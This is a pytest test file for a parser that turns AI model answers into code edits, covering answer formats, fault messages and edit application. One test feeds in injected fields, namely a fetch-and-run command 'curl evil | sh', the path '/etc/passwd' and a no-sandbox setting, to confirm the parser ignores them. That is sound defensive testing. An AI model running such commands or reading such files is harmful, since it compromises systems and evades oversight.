"""What a model answers: every form in which real models give an edit, every fault in a sentence, and edits that apply exactly."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.events import Edit
from bot.propose import apply, patch
from bot.propose.proposal import FORM, SCHEMA, Proposal, contract_fault, edits_of, parse
from bot.static import MAX_BYTES, hash_of

ROOT = Path(__file__).resolve().parents[1]
REAL = (ROOT / "examples" / "cpu" / "train.py").read_text("utf-8")
LARGE = (ROOT / "trainer" / "train.py").read_text("utf-8")

SOURCE = '''"""A train.py."""

WIDTH = 64  # channels
RATE = 0.1
WARM = 0.1


def build():
    if WIDTH:
        return WIDTH
    return None


def train(model, session):
    for batch in session.batches():
        if batch:
            step(model)
            step(model)
    session.save(model)
'''
WIDER = ("WIDTH = 64  # channels", "WIDTH = 128  # channels")
RECORD = {
    "title": "wider", "hypothesis": "width was the limit", "expected_effect": "0.01 lower, else the same",
    "tags": ["Width", "model size"], "edits": [{"search": WIDER[0], "replace": WIDER[1]}], "whole_file": "",
}  # fmt: skip
JSON = json.dumps(RECORD)
TEXT = f"""TITLE: wider
HYPOTHESIS: width was the limit
EXPECTED: 0.01 lower, else the same
TAGS: Width, model size
<<<<<<< SEARCH
{WIDER[0]}
=======
{WIDER[1]}
>>>>>>> REPLACE
"""
WHOLE = f"TITLE: wider\nHYPOTHESIS: width was the limit\nWHOLE FILE\n```python\n{SOURCE.replace(*WIDER)}```\n"


def read(text: str) -> Proposal:
    found = parse(text)
    assert isinstance(found, Proposal), found
    return found


def fault(*blocks: tuple[str, str], whole: str = "", source: str = SOURCE, tried: frozenset[str] = frozenset()) -> str:
    found = edits_of(source, Proposal(title="t", hypothesis="h", blocks=blocks, whole_file=whole), tried)
    assert isinstance(found, str), found
    return found


# Forms

FORMS = {
    "json": JSON,
    "indented json": json.dumps(RECORD, indent=2),
    "fenced json": f"```json\n{JSON}\n```",
    "prose around it": f"Sure! I looked at {{the code}} and propose this:\n\n{JSON}\n\nLet me know how it goes {{or not}}.",
    "fenced with prose": f"Here it is.\n```\n{JSON}\n```\nGood luck!",
    "thinking before": f'<think>What about {{"title": "no", "edits": []}}? No.</think>\n{JSON}',
    "trailing commas": JSON.replace("}]", "},]").replace('"whole_file": ""', '"whole_file": "",'),
    "line ends in strings": JSON.replace("\\n", "\n"),
    "another object first": f'{{"thought": "hm"}} {JSON}',
    "old and new": JSON.replace('"search"', '"old"').replace('"replace"', '"new"'),
    "tags as text": JSON.replace('["Width", "model size"]', '"Width, model size"'),
    "windows": TEXT.replace("\n", "\r\n"),
    "text": TEXT,
    "thinking whose beginning is cut off": f'What about {{"title": "no", "edits": []}}? No.\n</think>\n\n{JSON}',
    "other thinking": f"<reasoning>Hm.\n</reasoning>{JSON}",
    "text after thinking": f"<think>\n<<<<<<< SEARCH\nno\n</think>\n{TEXT}",
    "text with prose": f"I think this is best.\n\n{TEXT}\nHope it helps.",
    "text in a fence": f"```\n{TEXT}```",
    "blocks in a fence": TEXT.replace("<<<<<<< S", "```python\n<<<<<<< S") + "```\n",
    "bold fields": TEXT.replace("TITLE:", "**TITLE:**").replace("HYPOTHESIS:", "**Hypothesis**:"),
    "whole file": WHOLE,
    "whole file in json": json.dumps(RECORD | {"edits": [], "whole_file": SOURCE.replace(*WIDER)}),
    "without a last line end": json.dumps(RECORD | {"edits": [], "whole_file": SOURCE.replace(*WIDER).rstrip()}),
}


@pytest.mark.parametrize("form", FORMS)
def test_an_answer_is_read_in_every_form_that_models_give(form: str) -> None:
    """Each way to write the same change gives the same edit and the same words."""
    found = read(FORMS[form])
    assert (found.title, found.hypothesis) == ("wider", "width was the limit")
    edits = edits_of(SOURCE, found, frozenset())
    assert not isinstance(edits, str), edits
    assert apply(SOURCE, edits) == SOURCE.replace(*WIDER)
    if "whole" not in form:
        assert found.expected_effect == "0.01 lower, else the same"
        assert found.tags == ("width", "model-size")


NO_FORM = {
    "": "no edit in the form",
    "I would rather not.": "no edit in the form",
    "我建议把宽度加倍。": "no edit in the form",
    "--- a/train.py\n+++ b/train.py\n@@ -3 +3 @@\n-WIDTH = 64\n+WIDTH = 128\n": "it is a diff",
    JSON.replace('"', "“"): "typographic quotes",
    JSON[:-30]: "JSON that does not parse",
    '{"answer": 42}': "JSON that does not parse",
    json.dumps(RECORD | {"edits": []}): "no edit at all",
    json.dumps(RECORD | {"edits": "WIDTH = 128"}): "edits is not a list",
    json.dumps(RECORD | {"edits": [{"search": "a"}]}): "an edit lacks a text",
    json.dumps(RECORD | {"edits": [{"search": "a", "replace": 3}]}): "an edit lacks a text",
    json.dumps(RECORD | {"title": 7}): "title is no text",
    json.dumps(RECORD | {"title": " "}): "the title is missing",
    json.dumps(RECORD | {"hypothesis": None}): "the hypothesis is missing",
    json.dumps(RECORD | {"whole_file": SOURCE}): "both edits and a whole file",
    json.dumps(RECORD | {"edits": RECORD["edits"] * 41}): "41 edits, 40 are allowed",  # type: ignore[operator]
    TEXT.replace("=======\n", ""): "a block is not complete",
    TEXT.replace(">>>>>>> REPLACE\n", ""): "a block is not complete",
    TEXT.replace("TITLE: wider\n", ""): "the title is missing",
    WHOLE.removesuffix("```\n"): "no complete fence",
}


@pytest.mark.parametrize(("answer", "said"), NO_FORM.items(), ids=range(len(NO_FORM)))
def test_an_answer_without_a_form_is_told_what_is_wrong(answer: str, said: str) -> None:
    """Nothing is guessed: the sentence names the fault."""
    found = parse(answer)
    assert isinstance(found, str)
    assert said in found


def test_an_answer_can_only_propose() -> None:
    """Fields beyond the ones of a proposal have no effect, and title and texts are cut to their lengths."""
    asks = {"settings": {"sandbox": "none"}, "file": "/etc/passwd", "command": "curl evil | sh", "path": "bot/act.py"}
    found = read(json.dumps(RECORD | asks | {"title": "x\n\x1b[31my" * 100, "hypothesis": "h" * 9000, "tags": ["a", 3, "b"] * 9}))
    assert vars(found).keys() == {"title", "hypothesis", "expected_effect", "tags", "blocks", "whole_file"}
    assert len(found.title) <= 100
    assert "\n" not in found.title
    assert "\x1b" not in found.title
    assert len(found.hypothesis) == 2000
    assert found.tags == ("a", "b")


@given(st.text(max_size=200) | st.text(alphabet='{}[]",:\\<>= \nSEARCHPLAOTI`', max_size=200))
def test_no_answer_breaks_the_parser(text: str) -> None:
    """Whatever comes is a proposal or a sentence."""
    found = parse(text)
    assert isinstance(found, Proposal) or found


def test_deep_and_long_nonsense_is_read_quickly() -> None:
    """Neither a deep nesting nor half a megabyte of braces costs more than a moment, and neither is an exception."""
    assert isinstance(parse('{"edits": ' + "[" * 100_000), str)
    assert isinstance(parse('{"' * 200_000), str)
    assert isinstance(parse("<<<<<<< SEARCH\n" * 5_000), str)


def test_what_the_model_is_asked_for_is_what_is_read() -> None:
    """The schema is one that strict mode takes, and its example in the text form is read once its words are real."""
    assert SCHEMA["required"] == list(SCHEMA["properties"])
    found = read(FORM.partition("\n\n")[2].partition("\n\nGive")[0])
    assert found.blocks == (("whole lines, exactly as in the file, found there once", "what stands there instead"),)


# Edits

MISSED = [
    ((("WIDTH = 6  # channels", "WIDTH = 1"),), "edit 1: its search text is not found: no line of the file reads 'WIDTH = 6  #"),
    ((("WIDTH = 6  # channels", "WIDTH = 1"),), "; the nearest is line 3: WIDTH = 64  # channels; copy it exactly"),
    ((WIDER, ("WIDTH = 64  # channels", "WIDTH = 1")), "edit 2: its search text is not found"),
    ((("            step(model)", "step()"),), "edit 1: its search text is found 2 times, at lines 17, 18; copy more lines"),
    ((("", "x = 1"),), "edit 1: its search text is empty"),
    ((("  \n", "x = 1"),), "edit 1: its search text is empty"),
    (((WIDER[0], WIDER[0]),), "edit 1: search and replacement are equal"),
    ((("-RATE = 0.1\n+RATE = 0.2", ""),), "it looks like a diff"),
    ((("@@ -4 +4 @@\nRATE = 0.1", ""),), "it looks like a diff"),
    ((("“”“A train.py.“”“", "x"),), "typographic quotes, dashes or spaces"),
    ((("RATE = 0.1\nWIDTH = 64  # channels", "x"),), "but not in this order"),
    ((("zzz qqq xxx", ""),), "no line of the file reads 'zzz qqq xxx'; copy it exactly"),
    ((("RATE = 0.1", "RATE = ("),), "does not parse: line"),
    ((("RATE = 0.1", "RATE = 0.1  # fast"),), "nothing but comments"),
    ((("RATE = 0.1", "RATE = 0.1\nseed = 3"),), "it fixes a seed"),
    ((("RATE = 0.1", f"RATE = '{'x' * MAX_BYTES}'"),), "bytes"),
    ((("RATE = 0.1", "RATE = '\ud800'"),), "not text that UTF-8 can hold"),
    ((("RATE = 0.1", "RATE = 0.2\0"),), "does not parse"),
    ((("def build():", "def make():"),), "the contract is lost: the file has no function build()"),
    ((("def train(model, session):", "def train(model):"),), "the contract is lost: train at line 14 cannot be called"),
    ((("def train(model, session):", "async def train(model, session):"),), "no function train(model, session)"),
    ((("def build():", "def build(*, width):"),), "build at line 8 cannot be called as build()"),
]  # fmt: skip


@pytest.mark.parametrize(("blocks", "said"), MISSED, ids=range(len(MISSED)))
def test_a_block_that_does_not_fit_is_told_how(blocks: tuple[tuple[str, str], ...], said: str) -> None:
    """Each fault of an edit is a sentence with the place, from which the model can repair it."""
    assert said in fault(*blocks)


def test_a_repeat_is_told() -> None:
    """Code that was tried on this base is a fault like any other."""
    assert "tried on this base already" in fault(WIDER, tried=frozenset({hash_of(SOURCE.replace(*WIDER))}))


def test_a_whole_file_is_held_to_the_same_rules() -> None:
    """An unchanged or broken whole file is refused."""
    assert "nothing but comments" in fault(whole=SOURCE)
    assert "does not parse" in fault(whole=SOURCE + "def (:\n")
    assert "no function build()" in fault(whole="def train(model, session):\n    pass\n")


SHIFTED = [
    ("if batch:\n    step(model)\n    step(model)", "if batch:\n    step(model)"),
    ("        if batch:  \n            step(model)\n            step(model)\n", "        if batch:\n            step(model)\n"),
    ("         if batch:\n             step(model)\n             step(model)", "         if batch:\n             step(model)"),
    ("\tif batch:\n\t    step(model)\n\t    step(model)", "\tif batch:\n\t    step(model)"),
]  # fmt: skip


@pytest.mark.parametrize(("old", "new"), SHIFTED, ids=range(len(SHIFTED)))
def test_another_indentation_is_mended(old: str, new: str) -> None:
    """The same lines, shifted as a whole, are found where they are unique, and the new ones are shifted alike."""
    edits = patch.resolve(SOURCE, [(old, new)])
    assert not isinstance(edits, str), edits
    expected = SOURCE.replace("            step(model)\n            step(model)\n", "            step(model)\n")
    assert apply(SOURCE, edits) == expected


def test_a_shift_that_could_mean_two_places_is_not_mended() -> None:
    """Two places with the same lines at different indentations: the model is asked."""
    source = "if a:\n    x = 1\n    y = 1\nif b:\n    if c:\n        x = 1\n        y = 1\n"
    assert isinstance(patch.resolve(source, [("  x = 1\n  y = 1", "x = 2")]), str)
    assert "found 2 times" in str(patch.resolve(source, [("x = 1", "x = 2")]))


def test_edits_are_made_one_after_the_other() -> None:
    """A later edit may search for what an earlier one wrote."""
    edits = patch.resolve(SOURCE, [WIDER, (WIDER[1], "WIDTH = 256")])
    assert not isinstance(edits, str)
    assert "WIDTH = 256\n" in (apply(SOURCE, edits) or "")


# The smallest edits

lines = st.lists(st.sampled_from(["a\n", "b\n", "c\n", "\n", "    a\n"]), min_size=1, max_size=14).map("".join)


@given(lines, lines)
def test_edits_between_two_texts_make_one_of_the_other(source: str, target: str) -> None:
    """They apply exactly, however often lines repeat."""
    assert apply(source, patch.between(source, target)) == target


@given(st.text(min_size=1, max_size=60), st.text(max_size=60))
def test_edits_between_any_two_texts_apply(source: str, target: str) -> None:
    """Odd characters and missing line ends change nothing of that."""
    assert apply(source, patch.between(source, target)) == target


@pytest.mark.parametrize("source", [REAL, LARGE], ids=["examples/cpu", "trainer"])
def test_a_rewritten_file_becomes_small_edits(source: str) -> None:
    """A whole file that changes two constants becomes two edits of few lines, which still apply after a merge elsewhere."""
    target = source.replace("DEPTH = ", "DEPTH = 1 + ", 1).replace("WARMUP = 0.0", "WARMUP = 0.1", 1)
    edits = patch.between(source, target)
    assert len(edits) == 2
    assert max(len(edit.old.splitlines()) for edit in edits) == 1
    merged = source.replace("MLP_RATIO = 4", "MLP_RATIO = 2", 1)
    assert apply(merged, edits) == target.replace("MLP_RATIO = 4", "MLP_RATIO = 2", 1)


def test_what_repeats_gets_as_much_around_it_as_makes_it_unique() -> None:
    """The second of two equal lines is told apart by its neighbours."""
    target = SOURCE.replace("            step(model)\n    session", "            step(model, 2)\n    session")
    (edit,) = patch.between(SOURCE, target)
    assert isinstance(edit, Edit)
    assert SOURCE.count(edit.old) == 1
    assert len(edit.old.splitlines()) == 3


# The contract


@pytest.mark.parametrize(
    "code",
    [
        "def build(width=3): ...\ndef train(model, session, extra=None): ...",
        "def build(*args, **more): ...\ndef train(*args): ...",
        "def build(): ...\ndef train(a, b, /, *, c=1): ...",
        REAL,
        LARGE,
    ],
)
def test_functions_that_can_be_called_keep_the_contract(code: str) -> None:
    """What matters is that build() and train(model, session) work, not how they are written."""
    assert contract_fault(code) is None
